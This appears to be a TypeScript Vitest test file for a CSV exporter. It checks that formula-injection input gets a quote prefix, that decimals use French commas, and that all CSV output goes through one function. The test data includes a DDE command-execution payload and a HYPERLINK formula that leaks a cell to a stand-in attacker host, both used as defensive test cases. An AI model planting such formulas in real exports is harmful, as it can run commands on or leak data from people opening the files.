import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { csvCell, FixedDecimal, toCsv } from './csv';

describe('csvCell: the OWASP rule, no exemption', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+33 1 40 00 00 00', "'+33 1 40 00 00 00"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['-12', "'-12"],
    ['-0+HYPERLINK("http://evil.example/?leak="&C3,"Voir")', `"'-0+HYPERLINK(""http://evil.example/?leak=""&C3,""Voir"")"`],
    ['\r=1', `"'\r=1"`],
  ])('prefixes text %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves other text alone and quotes the separator, quotes and line breaks', () => {
    expect(csvCell('Dupont')).toBe('Dupont');
    expect(csvCell('55%')).toBe('55%');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('dit "oui"')).toBe('"dit ""oui"""');
  });

  it('writes numbers as numbers: a negative number is not text and gets no prefix', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(1.5)).toBe('1,5');
    expect(csvCell(new FixedDecimal(-6, 2))).toBe('-6,00');
    expect(csvCell(new FixedDecimal(600, 2))).toBe('600,00');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes decimals with a comma and without float noise', () => {
    expect(csvCell(0.46099999999999997)).toBe('0,461');
    expect(csvCell(800.964398)).toBe('800,9644');
    expect(csvCell(-0.1 - 0.2)).toBe('-0,3');
    expect(csvCell(1234567)).toBe('1234567');
    expect(csvCell(new FixedDecimal(0.1 + 0.2, 2))).toBe('0,30');
    expect(csvCell(new FixedDecimal(0.461, 4))).toBe('0,4610');
  });

  it('starts with a UTF-8 byte order mark and writes lines with CRLF and `;`', () => {
    const csv = toCsv(['a', 'é'], [['-1', -1]]);
    expect(csv).toBe("\uFEFFa;é\r\n'-1;-1\r\n");
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('every CSV the server writes goes through toCsv', () => {
  const SRC = fileURLToPath(new URL('..', import.meta.url));
  const sources = (readdirSync(SRC, { recursive: true }) as string[])
    .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && !f.startsWith('migrations'))
    .map((f) => ({ file: relative(SRC, join(SRC, f)), text: readFileSync(join(SRC, f), 'utf8') }));

  it('no other file joins cells with `;` or builds its own CSV line', () => {
    expect(sources.filter((s) => /\.join\(\s*['"];['"]\s*\)/.test(s.text)).map((s) => s.file)).toEqual([join('core', 'csv.ts')]);
  });
});
